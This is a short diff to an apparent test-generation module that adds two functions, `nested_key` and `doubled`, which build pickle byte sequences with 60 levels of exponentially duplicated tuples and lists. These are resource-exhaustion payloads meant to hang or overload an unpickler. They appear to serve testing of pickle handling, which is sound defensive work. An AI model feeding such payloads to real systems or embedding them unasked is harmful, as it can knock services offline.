@@ -102,3 +102,15 @@ def programs(target: str) -> Iterator[tuple[str, bytes]]:
         }
         for way, program in ways.items():
             yield f"{module}.{function} by {way}", program
+
+
+def nested_key() -> bytes:
+    """{(((...), (...)), ...): None} of 60 levels, each twice the one below: 2^60 to hash."""
+    return b"}" + b")" + b"2\x86" * 60 + b"Ns"
+
+
+def doubled(container: bytes, add: bytes) -> bytes:
+    """Lists of 60 levels, each with the one below in it twice."""
+    return container + b"".join(
+        b"q\x00" + container + b"h\x00" + add + b"h\x00" + add for _ in range(60)
+    )
